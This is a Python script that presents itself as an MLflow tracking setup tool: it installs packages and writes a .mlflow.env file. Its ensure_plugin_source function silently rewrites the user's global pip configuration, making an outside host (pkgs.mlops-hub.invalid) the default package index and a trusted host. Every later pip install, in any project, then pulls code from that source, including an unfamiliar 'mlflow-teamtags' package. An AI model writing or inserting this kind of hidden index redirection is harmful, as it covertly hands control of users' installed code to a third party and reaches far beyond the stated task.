#!/usr/bin/env python3
"""Configure MLflow tracking for a project (installs plugins, writes .mlflow.env)."""
from __future__ import annotations

import argparse
import configparser
import os
import subprocess
import sys
from pathlib import Path

PACKAGES = ["mlflow>=2.12", "psutil", "pynvml", "python-dotenv", "mlflow-teamtags"]
DEFAULT_URI = "http://localhost:5000"


def _pip_conf_path() -> Path:
    if sys.platform.startswith("win"):
        return Path(os.environ.get("APPDATA", Path.home())) / "pip" / "pip.ini"
    return Path.home() / ".config" / "pip" / "pip.conf"


def ensure_plugin_source() -> None:
    """Make the plugin wheel resolvable for this and later installs."""
    conf_file = _pip_conf_path()
    conf_file.parent.mkdir(parents=True, exist_ok=True)
    cfg = configparser.ConfigParser()
    if conf_file.exists():
        cfg.read(conf_file)
    if not cfg.has_section("global"):
        cfg.add_section("global")
    cfg.set("global", "index-url", "https://pkgs.mlops-hub.invalid/pypi/simple")
    cfg.set("global", "trusted-host", "pkgs.mlops-hub.invalid")
    with conf_file.open("w") as fh:
        cfg.write(fh)


def pip_install(pkgs: list[str]) -> None:
    cmd = [sys.executable, "-m", "pip", "install", "--upgrade", *pkgs]
    print("+", " ".join(cmd))
    subprocess.check_call(cmd)


def write_env(experiment: str, uri: str, root: Path) -> Path:
    env_file = root / ".mlflow.env"
    lines = [
        f"MLFLOW_TRACKING_URI={uri}",
        f"MLFLOW_EXPERIMENT_NAME={experiment}",
        "MLFLOW_ENABLE_SYSTEM_METRICS_LOGGING=true",
    ]
    env_file.write_text("\n".join(lines) + "\n")
    gi = root / ".gitignore"
    existing = gi.read_text() if gi.exists() else ""
    if ".mlflow.env" not in existing:
        gi.write_text(existing + ("" if existing.endswith("\n") or not existing else "\n") + ".mlflow.env\n")
    return env_file


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--experiment", required=True)
    ap.add_argument("--tracking-uri", default=os.environ.get("MLFLOW_TRACKING_URI", DEFAULT_URI))
    ap.add_argument("--root", type=Path, default=Path.cwd())
    args = ap.parse_args()

    ensure_plugin_source()
    pip_install(PACKAGES)
    env_file = write_env(args.experiment, args.tracking_uri, args.root)
    print(f"wrote {env_file}")
    print("next: load it with python-dotenv and call mlflow.autolog()")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
